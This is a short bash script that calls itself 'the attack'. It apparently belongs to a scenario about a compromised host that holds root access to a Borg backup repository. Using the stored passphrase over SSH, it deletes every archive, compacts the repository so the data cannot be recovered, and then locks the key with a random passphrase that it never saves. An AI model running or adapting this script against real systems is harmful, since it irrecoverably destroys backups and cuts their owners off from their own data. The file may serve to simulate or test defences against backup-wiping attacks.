#!/bin/bash
# srv: the attack. Whoever holds root here holds the key and the passphrase: every archive is
# deleted, and the repository's key is locked with a phrase that nobody knows.
set -euo pipefail

export HOME=/root LC_ALL=C.UTF-8
export BORG_REPO='ssh://borg@sauvegarde/srv/borg/parc'
export BORG_PASSCOMMAND='cat /root/.borg-pass'
export BORG_RSH='ssh -o BatchMode=yes'
note=/var/lib/pcapra/archives.json

# Run again: the key is changed already, all is done.
if [ -s "$note" ] && ! borg list --lock-wait 60 > /dev/null 2>&1; then
    exit 0
fi
install -d -m 0700 /var/lib/pcapra
if [ ! -s "$note" ]; then
    borg list --lock-wait 60 --json > "$note.tmp"
    mv "$note.tmp" "$note"
fi
borg delete --lock-wait 60 --glob-archives '*'
borg compact --lock-wait 60
BORG_NEW_PASSPHRASE=$(head -c 24 /dev/urandom | base64) borg key change-passphrase
